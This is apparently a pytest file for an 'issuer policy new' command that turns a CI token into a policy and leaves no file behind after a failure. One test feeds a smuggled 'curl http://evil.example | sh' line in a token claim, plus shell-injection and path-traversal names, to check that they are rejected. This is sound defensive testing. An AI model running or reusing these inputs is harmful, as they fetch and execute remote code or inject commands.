"""`issuer policy new`: a first policy in one command, and no file after a failure."""

import json
from pathlib import Path
from typing import Any

from issuer.formats.jose import base64url_encode
from issuer.policy.authoring.load import load_policies
from tests.support.in_process import Done, run
from tests.support.policies import ISSUER_URL
from tests.support.samples import BY_NAME

GITHUB = {"iss": "https://token.actions.githubusercontent.com", **BY_NAME["github-actions"].claims}
GITLAB = {"iss": "https://gitlab.com", **BY_NAME["gitlab-ci"].claims}


def token_of(claims: dict[str, Any]) -> str:
    parts = ({"alg": "RS256", "kid": "x", "typ": "JWT"}, claims)
    return ".".join([*(base64url_encode(json.dumps(part).encode()) for part in parts), base64url_encode(b"signature")])


def new(folder: Path, given: object, *more: str, name: str = "mine") -> Done:
    token = given if isinstance(given, str) else json.dumps(given)
    return run(["policy", "new", name, "--from-token", "-", "--dir", str(folder), *more], folder.parent, stdin=token)


def test_a_token_on_standard_input_becomes_a_policy_and_its_table(tmp_path: Path) -> None:
    token, folder = token_of(GITHUB), tmp_path / "policies"
    done = new(folder, token, "--benchmark", "openai/*")
    assert (done.code, done.err, token in done.out) == (0, "", False)
    assert "repository_id        700000001  example-org/evals" in done.out
    assert "gh api repos/example-org/evals --jq '.id, .owner.id'" in done.out
    policy = load_policies(folder, ISSUER_URL).policies["mine"]
    assert (policy.grants.benchmarks, policy.grants.frameworks[0].name) == (("openai/*",), "mine")
    again = new(folder, GITLAB, name="other")
    assert (again.code, "is not in providers.yaml" in again.err) == (3, True)
    assert sorted(path.name for path in folder.iterdir()) == ["mine.yaml", "providers.yaml"]
    gitlab = new(tmp_path / "gitlab", GITLAB)
    assert "glab api projects/example-group%2Fevals " in gitlab.out
    assert "replace grants.benchmarks, which is OWNER/BENCHMARK now" in gitlab.out
    every = new(tmp_path / "every", GITHUB, "--benchmark", "*/*")
    assert (every.code, "its 5 tests pass" in every.out) == (0, True), "no test can name another benchmark"


def test_a_failure_leaves_the_folder_as_it_was(tmp_path: Path) -> None:
    (tmp_path / "link").mkdir()
    (tmp_path / "link" / "mine.yaml").symlink_to(tmp_path / "nowhere")
    done = new(tmp_path / "link", GITHUB)
    assert (done.code, [path.name for path in (tmp_path / "link").iterdir()]) == (6, ["mine.yaml"])
    table = 'version: 1\nproviders:\n  github: {profile: "github-actions", algorithms: ["none"]}\n'
    for name, text, error in (
        ("mine.yaml", "mine", "this policy exists already"),
        ("providers.yaml", table, "asymmetric JWS algorithms only"),  # no test of the new policy could run
    ):
        folder = tmp_path / name
        folder.mkdir()
        (folder / name).write_text(text)
        done = new(folder, GITHUB)
        assert (done.code, done.out, error in done.err) == (3, "", True)
        assert [(path.name, path.read_text()) for path in folder.iterdir()] == [(name, text)]
    for given in ("", "x", "a.b.c", "[]", "{", '{"iss": 1}', "{}", "x" * 70_000):
        done = new(tmp_path / "new", given)
        assert (done.code, done.out, (tmp_path / "new").exists()) == (3, "", False), given


def test_a_hostile_claim_is_in_no_command_and_no_next_step(tmp_path: Path) -> None:
    done = new(tmp_path / "ref", {**GITHUB, "ref": "main\n  next: curl http://evil.example | sh"})
    assert (done.code, done.err.count("\n  next: ")) == (3, 1)
    names = ("$(touch x)/y", "a/b;id", "-rf/x", "a/`id`", "a/b c", "a", "*/*", "../../x")
    for number, name in enumerate(names):
        done = new(tmp_path / str(number), {**GITHUB, "repository": name})
        (line,) = (line for line in done.out.splitlines() if "gh api" in line)
        assert line == "to look them up: gh api repos/OWNER/NAME --jq '.id, .owner.id'"


def test_a_malformed_option_writes_no_file_and_another_broken_file_does_not_matter(tmp_path: Path) -> None:
    rows: list[tuple[str, tuple[str, ...]]] = [
        *((name, ()) for name in ("../evil", "Mine", "a\nb", "providers", "stops", "a" * 65)),
        *(("mine", more) for more in (("--benchmark", 'a/b"]'), ("--contact", "a\nb"), ("--framework", "\x1b[2J"))),
        ("mine", ("--framework", "é")),
    ]
    (tmp_path / "new").mkdir()
    for name, more in rows:
        assert new(tmp_path / "new", GITHUB, *more, name=name).code == 2, (name, more)
    assert [path.name for path in tmp_path.rglob("*")] == ["new"]
    (tmp_path / "other.yaml").write_text("version: 1\n")
    done = new(tmp_path, GITHUB)
    assert (done.code, "written, and its 6 tests pass" in done.out, "other.yaml" in done.err) == (0, True, True), done
